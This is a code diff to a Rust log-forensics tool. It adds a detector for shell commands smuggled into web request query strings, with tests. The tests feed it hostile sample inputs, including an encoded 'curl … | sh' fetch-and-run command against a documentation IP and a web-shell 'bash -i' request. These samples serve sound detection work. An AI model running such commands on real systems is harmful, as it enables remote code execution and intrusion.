@@ -10,6 +10,7 @@ use std::sync::Arc;
 use minetrace_schemas::records::file::FileKind;
 
 use super::HostModel;
+use crate::indicators::{Indicators, Kind};
 use crate::parse::service_log::{self, LogFormat, LogLine};
 
 /// Lines kept over all service logs; a shaped bundle cannot make the list unbounded.
@@ -33,6 +34,61 @@ impl ServiceLogLine {
             self.log.line
         )
     }
+}
+
+/// `%xx` and `+` decoded.
+pub fn percent_decode(s: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(s.len());
+    let mut i = 0;
+    while let Some(&b) = s.get(i) {
+        let hex = |o: usize| s.get(i + o).and_then(|c| (*c as char).to_digit(16));
+        match (b, hex(1), hex(2)) {
+            (b'%', Some(h), Some(l)) => {
+                out.push(u8::try_from(h * 16 + l).unwrap_or(b'?'));
+                i += 3;
+            }
+            (b'+', _, _) => {
+                out.push(b' ');
+                i += 1;
+            }
+            _ => {
+                out.push(b);
+                i += 1;
+            }
+        }
+    }
+    out
+}
+
+/// A request target's path, decoded, without its query.
+pub fn request_path(target: &[u8]) -> Vec<u8> {
+    percent_decode(target.split(|b| *b == b'?').next().unwrap_or(target))
+}
+
+/// The first query value of a request that is a shell command (decoded): a download, a decode into a
+/// shell, a bash socket, or a command that is a shell or downloader (`shell_or_downloader`).
+pub fn request_command(target: &[u8], iocs: &Indicators) -> Option<Vec<u8>> {
+    let query = target.splitn(2, |b| *b == b'?').nth(1)?;
+    query
+        .split(|b| *b == b'&')
+        .map(|kv| percent_decode(kv.splitn(2, |b| *b == b'=').nth(1).unwrap_or(kv)))
+        .find(|v| {
+            let line = crate::parse::shell_line::analyze(v);
+            let shell = line.commands.iter().any(|c| {
+                std::str::from_utf8(c).is_ok_and(|c| iocs.contains(Kind::ShellOrDownloader, c))
+            });
+            // A shell or downloader with an option or a path, or in a pipeline or sequence: a command,
+            // not a search for "bash tutorial".
+            let invoked = crate::parse::words(v)
+                .skip(1)
+                .any(|w| w.starts_with(b"-") || w.contains(&b'/'))
+                || line.commands.len() > 1;
+            line.download
+                || line.download_to_shell
+                || line.decode_to_shell
+                || line.dev_tcp
+                || (shell && invoked)
+        })
 }
 
 /// Whether a captured file is read as a service log: a regular file under `/var/log/` that is not an
@@ -99,5 +155,19 @@ mod tests {
         assert_eq!(l.format, LogFormat::Redis);
         assert!(matches!(&l.log.event, LogEvent::RedisModuleLoaded { name, .. } if name == "system"));
         assert_eq!(l.location(), "/var/log/app/custom-redis.log:1");
+    }
+
+    #[test]
+    fn commands_in_requests() {
+        let iocs = crate::indicators::Indicators::builtin();
+        let cmd = super::request_command(
+            b"/mgmt/cmd.jsp?x=1&c=curl%20-fsSL%20http%3A%2F%2F203.0.113.88%2Ft.sh%7Csh",
+            &iocs,
+        );
+        assert_eq!(cmd.as_deref(), Some(&b"curl -fsSL http://203.0.113.88/t.sh|sh"[..]));
+        assert!(super::request_command(b"/shell.php?cmd=bash+-i", &iocs).is_some());
+        assert!(super::request_command(b"/search?q=shell+scripting+tutorial&page=2", &iocs).is_none());
+        assert!(super::request_command(b"/products/7", &iocs).is_none());
+        assert_eq!(super::request_path(b"/a%20b/x.php?c=id"), b"/a b/x.php".to_vec());
     }
 }
